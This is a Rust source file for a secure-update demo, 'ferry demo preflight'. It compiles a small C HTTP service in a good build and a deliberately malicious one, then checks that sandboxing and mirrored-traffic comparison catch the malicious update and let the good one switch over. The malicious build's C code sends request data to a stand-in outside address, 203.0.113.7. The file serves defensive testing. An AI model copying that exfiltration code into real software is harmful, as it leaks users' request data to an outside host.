//! `ferry demo preflight`: the whole secure preflight, for real, under client load.
//!
//! [`run`] compiles a small HTTP service (a C program, with the system's `cc`) three times:
//! version 1 runs on the host as the device's production instance behind an
//! [`HttpMirrorProxy`], while a client keeps sending requests through the proxy and checks
//! every answer. Then two updates (version 2.0.0) are sealed to the device group key and signed
//! by a vendor key, and each goes through [`preflight`]:
//! - a **malicious** build that answers `/items/3` with other data and tries to send it to an
//!   outside address ([`EXFIL_ADDR`]) must be caught by the mirrored-traffic comparison and by
//!   the sandbox monitor (the outbound attempt, with its address), produce a
//!   [`SecurityAlert`], and leave production untouched;
//! - a **good** build must be judged safe and switched over: traffic to its sandbox, the device
//!   upgraded (version 1 stopped, version 2 started in its place), traffic back, sandbox shut,
//!   without a failed client request.
//!
//! [`DemoReport`] records each step; its `Display` prints them.

use crate::envelope::{GroupSecret, seal_bytes};
use crate::gate::GateInput;
use crate::mirror::{Backend, HttpMirrorProxy, MirrorConfig, MirrorError, MirrorReport};
use crate::preflight::{
    PreflightError, PreflightInput, ServiceSpec, SwitchoverLog, Verdict, preflight,
};
use crate::sandbox::ResourceLimits;
use crate::scan::{Policy, ScanError, default_rules};
use crate::unpack::{Limits, UnpackRule};
use ferry_artifact::keys::SigningKey;
use ferry_core::api::SecurityAlert;
use ferry_core::{Component, DeviceId, Version};
use http_body_util::BodyExt;
use std::fmt;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// Where the malicious build sends what it exfiltrates (TEST-NET-3, never routed).
pub const EXFIL_ADDR: &str = "203.0.113.7:80";

/// The demo service (`app PORT [ADDRESS]`, address 127.0.0.1 by default): answers
/// `{"path":…,"value":…,"nonce":…}` (the nonce differs on every answer, noise the mirror must
/// learn); built with `-DEVIL` it answers `/items/3` with other data and tries to send the
/// request to [`EXFIL_ADDR`]; built with `-DDIVERGE` it only answers `/items/3` differently.
pub const SERVICE_C: &str = r#"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  signal(SIGPIPE, SIG_IGN);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  int one = 1;
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  a.sin_port = htons((unsigned short)atoi(argv[1]));
  inet_pton(AF_INET, argc > 2 ? argv[2] : "127.0.0.1", &a.sin_addr);
  if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 256) != 0) {
    perror("listen");
    return 1;
  }
  srand((unsigned)getpid() ^ (unsigned)time(NULL));
  unsigned long counter = 0;
  for (;;) {
    int c = accept(s, NULL, NULL);
    if (c < 0) continue;
    char req[4096];
    size_t n = 0;
    req[0] = 0;
    while (n < sizeof req - 1) {
      ssize_t r = read(c, req + n, sizeof req - 1 - n);
      if (r <= 0) break;
      n += (size_t)r;
      req[n] = 0;
      if (strstr(req, "\r\n\r\n")) break;
    }
    char path[200] = "/";
    sscanf(req, "%*s %199s", path);
    char value[220];
    snprintf(value, sizeof value, "value of %s", path);
#if defined(EVIL) || defined(DIVERGE)
    if (strcmp(path, "/items/3") == 0) {
      snprintf(value, sizeof value, "exfiltrated");
#ifdef EVIL
      int x = socket(AF_INET, SOCK_STREAM, 0);
      struct sockaddr_in out;
      memset(&out, 0, sizeof out);
      out.sin_family = AF_INET;
      out.sin_port = htons(80);
      inet_pton(AF_INET, "203.0.113.7", &out.sin_addr);
      if (x >= 0 && connect(x, (struct sockaddr *)&out, sizeof out) == 0) write(x, req, n);
      if (x >= 0) close(x);
#endif
    }
#endif
    char body[600];
    int blen = snprintf(body, sizeof body, "{\"path\":\"%s\",\"value\":\"%s\",\"nonce\":%lu}",
                        path, value, ((unsigned long)rand() << 8) ^ ++counter);
    char resp[1024];
    int rlen = snprintf(resp, sizeof resp,
                        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                        "Content-Length: %d\r\nConnection: close\r\n\r\n%s", blen, body);
    ssize_t off = 0;
    while (off < rlen) {
      ssize_t w = write(c, resp + off, (size_t)(rlen - off));
      if (w <= 0) break;
      off += w;
    }
    close(c);
  }
}
"#;

/// Hardened build flags (the static scan passes them).
pub const SERVICE_FLAGS: &[&str] = &[
    "-static-pie",
    "-fPIE",
    "-fstack-protector-strong",
    "-D_FORTIFY_SOURCE=2",
    "-O2",
    "-Wl,-z,relro,-z,now",
];

/// The port the new version listens on inside its sandbox (its own network namespace).
const SANDBOX_PORT: u16 = 8080;

/// Demo settings.
#[derive(Debug, Clone)]
pub struct DemoOptions {
    /// Where the demo's temporary directory is created (the system's temporary directory if
    /// `None`). It is removed at the end.
    pub work_dir: Option<PathBuf>,
    /// The C compiler.
    pub cc: String,
    /// How long live traffic is mirrored to each update.
    pub mirror_period: Duration,
    /// Fewest mirrored requests to judge by.
    pub min_mirrored: u64,
    /// Pause between two client requests.
    pub client_interval: Duration,
    /// How long the new version may take to accept connections in its sandbox.
    pub startup_timeout: Duration,
    /// How long a switch may wait for in-flight requests to drain.
    pub drain: Duration,
}

impl Default for DemoOptions {
    fn default() -> Self {
        DemoOptions {
            work_dir: None,
            cc: "cc".into(),
            mirror_period: Duration::from_millis(800),
            min_mirrored: 20,
            client_interval: Duration::from_millis(2),
            startup_timeout: Duration::from_secs(10),
            drain: Duration::from_secs(10),
        }
    }
}

/// Why the demo could not run (as opposed to an update being judged one way or the other).
#[derive(Debug, thiserror::Error)]
pub enum DemoError {
    /// A file system or process operation failed.
    #[error("{action}: {source}")]
    Io {
        /// What was being done.
        action: String,
        /// The error.
        source: std::io::Error,
    },
    /// The C compiler failed.
    #[error("compiling the demo service failed ({cc} {flags}): {output}")]
    Compile {
        /// The compiler.
        cc: String,
        /// The flags.
        flags: String,
        /// What it printed.
        output: String,
    },
    /// A process did not start serving in time.
    #[error("{what} did not accept connections on {addr} within {after:?}")]
    NotServing {
        /// Which process.
        what: String,
        /// Its address.
        addr: SocketAddr,
        /// The time waited.
        after: Duration,
    },
    /// Building the package failed.
    #[error("building the package failed: {0}")]
    Package(String),
    /// The built-in scan rules did not load.
    #[error(transparent)]
    Rules(#[from] ScanError),
    /// The mirroring proxy did not start.
    #[error(transparent)]
    Proxy(#[from] MirrorError),
    /// A preflight reached no verdict.
    #[error(transparent)]
    Preflight(#[from] PreflightError),
}

fn io_err(action: impl Into<String>) -> impl FnOnce(std::io::Error) -> DemoError {
    let action = action.into();
    move |source| DemoError::Io { action, source }
}

/// A package the vendor sealed.
#[derive(Debug, Clone)]
pub struct SealedPackage {
    /// `malicious` or `good`.
    pub name: String,
    /// Its release version.
    pub version: Version,
    /// Size of the service binary.
    pub binary_bytes: u64,
    /// Size of the tar archive holding it.
    pub tar_bytes: u64,
    /// The encrypted, signed envelope.
    pub envelope: PathBuf,
    /// Size of the envelope.
    pub envelope_bytes: u64,
    /// Key id of the vendor key that signed it.
    pub vendor_key_id: String,
}

/// What happened to the malicious update.
#[derive(Debug, Clone)]
pub struct MaliciousRun {
    /// The preflight's steps.
    pub steps: Vec<String>,
    /// The alert, if it was judged unsafe (as it must be).
    pub alert: Option<SecurityAlert>,
    /// The proxy's backend after its preflight.
    pub active_after: Backend,
    /// Whether the proxy was still mirroring after its preflight.
    pub mirroring_after: bool,
}

/// What happened to the good update.
#[derive(Debug, Clone)]
pub struct GoodRun {
    /// The preflight's steps.
    pub steps: Vec<String>,
    /// What the mirror observed, if it was judged safe (as it must be).
    pub mirror: Option<MirrorReport>,
    /// The alert, if it was (wrongly) judged unsafe.
    pub alert: Option<SecurityAlert>,
    /// The sandbox's process id while it rehearsed.
    pub sandbox_pid: Option<u32>,
    /// The switchover, if it completed.
    pub switchover: Option<SwitchoverLog>,
    /// The switchover's own steps (after the preflight's).
    pub switchover_steps: Vec<String>,
    /// Whether the sandbox process is gone at the end.
    pub sandbox_shut: bool,
    /// The proxy's backend at the end.
    pub active_after: Backend,
}

/// The client load through the proxy during the whole demo.
#[derive(Debug, Clone, Default)]
pub struct ClientLoad {
    /// Requests sent.
    pub sent: u64,
    /// Requests answered correctly (the production answer).
    pub ok: u64,
    /// Requests that failed or got a wrong answer.
    pub failed: u64,
    /// The first failures.
    pub first_failures: Vec<String>,
}

/// Everything the demo did.
#[derive(Debug, Clone)]
pub struct DemoReport {
    /// The production instance (version 1 on the host).
    pub production: Backend,
    /// Where clients reach the service (the mirroring proxy).
    pub proxy: SocketAddr,
    /// The sealed packages: malicious, then good.
    pub sealed: Vec<SealedPackage>,
    /// The malicious update.
    pub malicious: MaliciousRun,
    /// The good update.
    pub good: GoodRun,
    /// The client load.
    pub clients: ClientLoad,
}

impl DemoReport {
    /// The malicious update was judged unsafe and alerted, with production untouched.
    pub fn malicious_caught(&self) -> bool {
        self.malicious.alert.is_some()
            && self.malicious.active_after == self.production
            && !self.malicious.mirroring_after
    }

    /// The good update was switched over: traffic back on the upgraded production instance,
    /// sandbox shut.
    pub fn good_switched_over(&self) -> bool {
        self.good.switchover.is_some()
            && self.good.active_after == self.production
            && self.good.sandbox_shut
    }

    /// Both outcomes as required, and no client request failed.
    pub fn success(&self) -> bool {
        self.malicious_caught() && self.good_switched_over() && self.clients.failed == 0
    }
}

/// Findings and evidence entries shown of the alert body.
const ABRIDGED_ITEMS: usize = 3;
/// Bytes shown of an evidence detail.
const ABRIDGED_DETAIL: usize = 300;

/// Writes the alert's findings, identical consecutive ones once with their count.
fn write_findings(f: &mut fmt::Formatter<'_>, alert: &SecurityAlert) -> fmt::Result {
    let mut i = 0;
    while i < alert.findings.len() {
        let x = &alert.findings[i];
        let same = alert.findings[i..].iter().take_while(|y| *y == x).count();
        let times = if same > 1 {
            format!(" (x{same})")
        } else {
            String::new()
        };
        writeln!(
            f,
            "     [{}] {} {}: {}{times}",
            x.severity, x.rule, x.location, x.message
        )?;
        i += same;
    }
    Ok(())
}

/// The alert body as JSON, with its lists and evidence details shortened for the terminal.
fn abridged_alert(alert: &SecurityAlert) -> String {
    let mut v = match serde_json::to_value(alert) {
        Ok(v) => v,
        Err(e) => return format!("(cannot serialise the alert: {e})"),
    };
    for list in ["findings", "evidence"] {
        if let Some(items) = v.get_mut(list).and_then(|l| l.as_array_mut()) {
            let more = items.len().saturating_sub(ABRIDGED_ITEMS);
            items.truncate(ABRIDGED_ITEMS);
            if more > 0 {
                items.push(serde_json::Value::String(format!("... {more} more")));
            }
        }
    }
    if let Some(items) = v.get_mut("evidence").and_then(|l| l.as_array_mut()) {
        for item in items {
            if let Some(serde_json::Value::String(d)) = item.get_mut("detail") {
                if d.len() > ABRIDGED_DETAIL {
                    let mut cut = ABRIDGED_DETAIL;
                    while !d.is_char_boundary(cut) {
                        cut -= 1;
                    }
                    let total = d.len();
                    d.truncate(cut);
                    d.push_str(&format!("... ({total} bytes)"));
                }
            }
        }
    }
    serde_json::to_string_pretty(&v).unwrap_or_else(|e| e.to_string())
}

fn yes_no(b: bool) -> &'static str {
    if b { "yes" } else { "NO" }
}

impl fmt::Display for DemoReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "ferry demo preflight")?;
        writeln!(
            f,
            "production: service 1.0.0 on {}, clients go through the mirroring proxy on {}",
            self.production, self.proxy
        )?;
        writeln!(f)?;
        writeln!(f, "1. packages sealed to the device group key")?;
        for p in &self.sealed {
            writeln!(
                f,
                "   {:<9} {}: binary {} B -> tar {} B -> envelope {} B ({}), signed by vendor key {}",
                p.name,
                p.version,
                p.binary_bytes,
                p.tar_bytes,
                p.envelope_bytes,
                p.envelope.display(),
                p.vendor_key_id
            )?;
        }
        writeln!(f)?;
        writeln!(
            f,
            "2. malicious update (answers GET /items/3 with other data, sends it to {EXFIL_ADDR})"
        )?;
        for s in &self.malicious.steps {
            writeln!(f, "   - {s}")?;
        }
        match &self.malicious.alert {
            Some(alert) => {
                writeln!(
                    f,
                    "   findings (stage {}, {} in all):",
                    alert.stage,
                    alert.findings.len()
                )?;
                write_findings(f, alert)?;
                writeln!(
                    f,
                    "   production untouched: {} (traffic on {}, mirroring {})",
                    yes_no(self.malicious.active_after == self.production),
                    self.malicious.active_after,
                    if self.malicious.mirroring_after {
                        "ON"
                    } else {
                        "off"
                    }
                )?;
                let full = serde_json::to_vec(alert).map_or(0, |b| b.len());
                writeln!(
                    f,
                    "   alert body (POST /api/v1/alerts; {full} bytes, shown abridged: first \
                     {ABRIDGED_ITEMS} findings and evidence entries, evidence details cut at \
                     {ABRIDGED_DETAIL} bytes):"
                )?;
                for line in abridged_alert(alert).lines() {
                    writeln!(f, "     {line}")?;
                }
            }
            None => writeln!(f, "   NOT CAUGHT: the malicious update was judged safe")?,
        }
        writeln!(f)?;
        writeln!(f, "3. good update")?;
        for s in &self.good.steps {
            writeln!(f, "   - {s}")?;
        }
        if let Some(m) = &self.good.mirror {
            writeln!(
                f,
                "   mirrored {} requests: {} matched, {} mismatched; noise learned: {}",
                m.mirrored,
                m.matched,
                m.mismatched,
                m.noise
                    .iter()
                    .map(|(ep, fields)| format!("{ep} [{}]", fields.join(", ")))
                    .collect::<Vec<_>>()
                    .join("; ")
            )?;
        }
        if let Some(alert) = &self.good.alert {
            writeln!(f, "   WRONGLY JUDGED UNSAFE (stage {}):", alert.stage)?;
            write_findings(f, alert)?;
        }
        if !self.good.switchover_steps.is_empty() {
            writeln!(f, "   switchover:")?;
            for s in &self.good.switchover_steps {
                writeln!(f, "   - {s}")?;
            }
        }
        writeln!(
            f,
            "   switched over: {}; traffic on {}; sandbox{} shut: {}",
            yes_no(self.good.switchover.is_some()),
            self.good.active_after,
            self.good
                .sandbox_pid
                .map_or(String::new(), |p| format!(" (pid {p})")),
            yes_no(self.good.sandbox_shut)
        )?;
        writeln!(f)?;
        writeln!(
            f,
            "4. client load through the proxy: {} requests sent, {} answered correctly, {} failed",
            self.clients.sent, self.clients.ok, self.clients.failed
        )?;
        for e in &self.clients.first_failures {
            writeln!(f, "   failure: {e}")?;
        }
        writeln!(f)?;
        writeln!(
            f,
            "result: malicious update {}; good update {}; {} failed client requests => {}",
            if self.malicious_caught() {
                "CAUGHT and alerted"
            } else {
                "NOT CAUGHT"
            },
            if self.good_switched_over() {
                "SWITCHED OVER"
            } else {
                "NOT SWITCHED OVER"
            },
            self.clients.failed,
            if self.success() { "PASS" } else { "FAIL" }
        )
    }
}

/// Compiles [`SERVICE_C`] with `flags` into `dir/name`.
fn compile_service(cc: &str, dir: &Path, name: &str, flags: &[&str]) -> Result<PathBuf, DemoError> {
    let src = dir.join(format!("{name}.c"));
    std::fs::write(&src, SERVICE_C).map_err(io_err(format!("writing {}", src.display())))?;
    let out = dir.join(name);
    let result = Command::new(cc)
        .args(flags)
        .arg("-o")
        .arg(&out)
        .arg(&src)
        .output()
        .map_err(io_err(format!(
            "running the C compiler `{cc}` (install gcc)"
        )))?;
    if !result.status.success() {
        return Err(DemoError::Compile {
            cc: cc.into(),
            flags: flags.join(" "),
            output: String::from_utf8_lossy(&result.stderr).into_owned(),
        });
    }
    std::fs::remove_file(&src).map_err(io_err(format!("removing {}", src.display())))?;
    Ok(out)
}

fn free_port() -> Result<u16, DemoError> {
    let l = std::net::TcpListener::bind("127.0.0.1:0")
        .map_err(io_err("finding a free port for production"))?;
    Ok(l.local_addr()
        .map_err(io_err("finding a free port"))?
        .port())
}

/// The device's production instance (killed when dropped).
#[derive(Default)]
struct Device(Mutex<Option<Child>>);

impl Device {
    /// Starts `bin` on the host on `port` in place of the current instance, and waits until it
    /// accepts connections.
    async fn start(&self, bin: &Path, port: u16) -> Result<(), DemoError> {
        let child = Command::new(bin)
            .arg(port.to_string())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .map_err(io_err(format!("starting {}", bin.display())))?;
        *self.0.lock().expect("device lock") = Some(child);
        let addr: SocketAddr = ([127, 0, 0, 1], port).into();
        let timeout = Duration::from_secs(10);
        let deadline = Instant::now() + timeout;
        while tokio::net::TcpStream::connect(addr).await.is_err() {
            if Instant::now() >= deadline {
                return Err(DemoError::NotServing {
                    what: bin.display().to_string(),
                    addr,
                    after: timeout,
                });
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        Ok(())
    }

    /// Stops the current instance.
    fn stop(&self) -> Result<(), DemoError> {
        let old = self.0.lock().expect("device lock").take();
        if let Some(mut old) = old {
            let _ = old.kill();
            old.wait().map_err(io_err("stopping production"))?;
        }
        Ok(())
    }
}

impl Drop for Device {
    fn drop(&mut self) {
        let _ = self.stop();
    }
}

#[derive(Default)]
struct LoadCounters {
    stop: AtomicBool,
    sent: AtomicU64,
    ok: AtomicU64,
    failed: AtomicU64,
    first_failures: Mutex<Vec<String>>,
}

/// Clients sending requests through the proxy (stopped when dropped).
struct Load {
    counters: Arc<LoadCounters>,
    task: Option<tokio::task::JoinHandle<()>>,
}

impl Load {
    fn start(proxy: SocketAddr, interval: Duration) -> Load {
        let counters = Arc::new(LoadCounters::default());
        let task = tokio::spawn({
            let c = counters.clone();
            async move {
                let mut i = 0u64;
                while !c.stop.load(Ordering::SeqCst) {
                    i += 1;
                    let path = format!("/items/{}", i % 5);
                    c.sent.fetch_add(1, Ordering::SeqCst);
                    match get_checked(proxy, &path).await {
                        Ok(()) => {
                            c.ok.fetch_add(1, Ordering::SeqCst);
                        }
                        Err(e) => {
                            c.failed.fetch_add(1, Ordering::SeqCst);
                            let mut first = c.first_failures.lock().expect("load lock");
                            if first.len() < 5 {
                                first.push(e);
                            }
                        }
                    }
                    tokio::time::sleep(interval).await;
                }
            }
        });
        Load {
            counters,
            task: Some(task),
        }
    }

    async fn finish(mut self) -> ClientLoad {
        self.counters.stop.store(true, Ordering::SeqCst);
        if let Some(task) = self.task.take() {
            let _ = task.await;
        }
        let c = &self.counters;
        ClientLoad {
            sent: c.sent.load(Ordering::SeqCst),
            ok: c.ok.load(Ordering::SeqCst),
            failed: c.failed.load(Ordering::SeqCst),
            first_failures: c.first_failures.lock().expect("load lock").clone(),
        }
    }
}

impl Drop for Load {
    fn drop(&mut self) {
        self.counters.stop.store(true, Ordering::SeqCst);
        if let Some(task) = self.task.take() {
            task.abort();
        }
    }
}

/// One client request: `GET path` must be answered `200` with `"value": "value of <path>"`.
async fn get_checked(proxy: SocketAddr, path: &str) -> Result<(), String> {
    let stream = tokio::net::TcpStream::connect(proxy)
        .await
        .map_err(|e| format!("GET {path}: connect: {e}"))?;
    let (mut sender, conn) =
        hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(stream))
            .await
            .map_err(|e| format!("GET {path}: handshake: {e}"))?;
    tokio::spawn(async move {
        let _ = conn.await;
    });
    let request = hyper::Request::get(path)
        .header(hyper::header::HOST, proxy.to_string())
        .body(http_body_util::Empty::<bytes::Bytes>::new())
        .map_err(|e| format!("GET {path}: {e}"))?;
    let response = sender
        .send_request(request)
        .await
        .map_err(|e| format!("GET {path}: {e}"))?;
    let status = response.status();
    let body = response
        .into_body()
        .collect()
        .await
        .map_err(|e| format!("GET {path}: body: {e}"))?
        .to_bytes();
    if !status.is_success() {
        return Err(format!(
            "GET {path}: status {status}: {}",
            String::from_utf8_lossy(&body)
        ));
    }
    let v: serde_json::Value =
        serde_json::from_slice(&body).map_err(|e| format!("GET {path}: not JSON: {e}"))?;
    if v["value"] != format!("value of {path}") {
        return Err(format!("wrong answer for {path}: {v}"));
    }
    Ok(())
}

fn now_ms() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as u64)
}

struct Keys {
    group: GroupSecret,
    vendor: SigningKey,
}

fn seal_package(
    opts: &DemoOptions,
    dir: &Path,
    name: &str,
    evil: bool,
    version: &Version,
    keys: &Keys,
) -> Result<SealedPackage, DemoError> {
    let build = dir.join(format!("build-{name}"));
    std::fs::create_dir_all(&build).map_err(io_err(format!("creating {}", build.display())))?;
    let mut flags = SERVICE_FLAGS.to_vec();
    if evil {
        flags.push("-DEVIL");
    }
    let bin = compile_service(&opts.cc, &build, "app", &flags)?;
    let binary = std::fs::read(&bin).map_err(io_err(format!("reading {}", bin.display())))?;
    let mut tar = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header
        .set_path("app")
        .map_err(|e| DemoError::Package(e.to_string()))?;
    header.set_size(binary.len() as u64);
    header.set_mode(0o755);
    header.set_cksum();
    tar.append(&header, &binary[..])
        .map_err(|e| DemoError::Package(e.to_string()))?;
    let tar = tar
        .into_inner()
        .map_err(|e| DemoError::Package(e.to_string()))?;
    let sealed = seal_bytes(&tar, &keys.group.public(), &keys.vendor);
    let envelope = dir.join(format!("{name}.enc"));
    std::fs::write(&envelope, &sealed)
        .map_err(io_err(format!("writing {}", envelope.display())))?;
    Ok(SealedPackage {
        name: name.into(),
        version: version.clone(),
        binary_bytes: binary.len() as u64,
        tar_bytes: tar.len() as u64,
        envelope,
        envelope_bytes: sealed.len() as u64,
        vendor_key_id: keys.vendor.key_id().to_string(),
    })
}

async fn run_preflight(
    opts: &DemoOptions,
    dir: &Path,
    pkg: &SealedPackage,
    keys: &Keys,
    data: &Path,
    proxy: &crate::mirror::ProxyControl,
) -> Result<Verdict, DemoError> {
    let rules = default_rules()?;
    let policy = Policy::default();
    let vendors = [keys.vendor.public()];
    let work = dir.join(format!("work-{}", pkg.name));
    let input = PreflightInput {
        device_id: DeviceId::new("demo-device-1").expect("a valid device id"),
        component: Component::Main,
        version: pkg.version.clone(),
        gate: GateInput {
            envelope: &pkg.envelope,
            group: &keys.group,
            vendor_keys: &vendors,
            rule: UnpackRule::Tar,
            limits: Limits::default(),
            work_dir: &work,
        },
        rules: &rules,
        policy: &policy,
        service: ServiceSpec {
            argv: vec!["/app".into(), SANDBOX_PORT.to_string()],
            env: vec![],
            listen: ([127, 0, 0, 1], SANDBOX_PORT).into(),
            data_dir: Some(data.to_path_buf()),
            limits: ResourceLimits::default(),
            stubs: Vec::new(),
            sandbox: Default::default(),
        },
        startup_timeout: opts.startup_timeout,
        mirror_period: opts.mirror_period,
        min_mirrored: opts.min_mirrored,
        now_ms: now_ms(),
    };
    Ok(preflight(&input, proxy).await?)
}

/// Runs the demo on the current (multi-threaded) tokio runtime. See the module documentation.
pub async fn run_async(opts: &DemoOptions) -> Result<DemoReport, DemoError> {
    use std::os::unix::fs::PermissionsExt;
    let tmp = match &opts.work_dir {
        Some(parent) => tempfile::Builder::new()
            .prefix("ferry-demo-preflight-")
            .tempdir_in(parent),
        None => tempfile::Builder::new()
            .prefix("ferry-demo-preflight-")
            .tempdir(),
    }
    .map_err(io_err("creating the demo directory"))?;
    let dir = tmp.path();
    // The sandbox's root is an unprivileged host uid: it must be able to walk to its tree.
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755))
        .map_err(io_err(format!("making {} traversable", dir.display())))?;
    let keys = Keys {
        group: GroupSecret::generate(),
        vendor: SigningKey::generate(),
    };
    let data = dir.join("device-data");
    std::fs::create_dir(&data).map_err(io_err("creating the device's data directory"))?;
    std::fs::write(data.join("state.json"), "{}").map_err(io_err("writing the device's data"))?;

    // Production: version 1 on the host, behind the mirroring proxy, under client load.
    let v1 = compile_service(&opts.cc, dir, "service-v1", SERVICE_FLAGS)?;
    let port = free_port()?;
    let production = Backend::Tcp(([127, 0, 0, 1], port).into());
    let device = Arc::new(Device::default());
    device.start(&v1, port).await?;
    let proxy = HttpMirrorProxy::start(
        ([127, 0, 0, 1], 0).into(),
        production.clone(),
        MirrorConfig::default(),
    )
    .await?;
    let control = proxy.control();
    let proxy_addr = proxy.local_addr();
    let clients = Load::start(proxy_addr, opts.client_interval);
    tokio::time::sleep(Duration::from_millis(100)).await;

    let version = Version::new(2, 0, 0);
    let evil = seal_package(opts, dir, "malicious", true, &version, &keys)?;
    let good = seal_package(opts, dir, "good", false, &version, &keys)?;

    // The malicious update: must be caught, alerted, production untouched.
    let malicious = match run_preflight(opts, dir, &evil, &keys, &data, &control).await? {
        Verdict::Unsafe(u) => MaliciousRun {
            steps: u.steps,
            alert: Some(u.alert),
            active_after: control.active(),
            mirroring_after: control.mirroring(),
        },
        Verdict::Safe(s) => {
            let steps = s.steps.clone();
            // Never installed: dropping the verdict shuts its sandbox.
            drop(s);
            MaliciousRun {
                steps,
                alert: None,
                active_after: control.active(),
                mirroring_after: control.mirroring(),
            }
        }
    };

    // The good update: must be judged safe and switched over under load.
    let mut good_run = GoodRun {
        steps: Vec::new(),
        mirror: None,
        alert: None,
        sandbox_pid: None,
        switchover: None,
        switchover_steps: Vec::new(),
        sandbox_shut: false,
        active_after: control.active(),
    };
    match run_preflight(opts, dir, &good, &keys, &data, &control).await? {
        Verdict::Unsafe(u) => {
            good_run.steps = u.steps;
            good_run.alert = Some(u.alert);
        }
        Verdict::Safe(safe) => {
            good_run.steps = safe.steps.clone();
            good_run.mirror = Some(safe.mirror.clone());
            good_run.sandbox_pid = Some(safe.sandbox.pid());
            let new_binary = dir.join(format!("work-{}/rootfs/app", good.name));
            let log = safe
                .switch_over(
                    &control,
                    || {
                        let device = device.clone();
                        let production = production.clone();
                        async move {
                            // The real device upgrade: stop version 1, start version 2 in its
                            // place.
                            device.stop().map_err(|e| e.to_string())?;
                            tokio::time::sleep(Duration::from_millis(200)).await;
                            device
                                .start(&new_binary, port)
                                .await
                                .map_err(|e| e.to_string())?;
                            Ok(production)
                        }
                    },
                    opts.drain,
                )
                .await?;
            good_run.switchover_steps =
                log.steps[good_run.steps.len().min(log.steps.len())..].to_vec();
            good_run.switchover = Some(log);
        }
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    let clients = clients.finish().await;
    good_run.active_after = control.active();
    good_run.sandbox_shut = good_run
        .sandbox_pid
        .is_some_and(|pid| !Path::new(&format!("/proc/{pid}")).exists());
    device.stop()?;
    drop(proxy);

    Ok(DemoReport {
        production,
        proxy: proxy_addr,
        sealed: vec![evil, good],
        malicious,
        good: good_run,
        clients,
    })
}

/// Runs the demo on a runtime of its own (call from outside any tokio runtime). See the module
/// documentation.
pub fn run(opts: &DemoOptions) -> Result<DemoReport, DemoError> {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .map_err(io_err("starting the demo's async runtime"))?;
    runtime.block_on(run_async(opts))
}
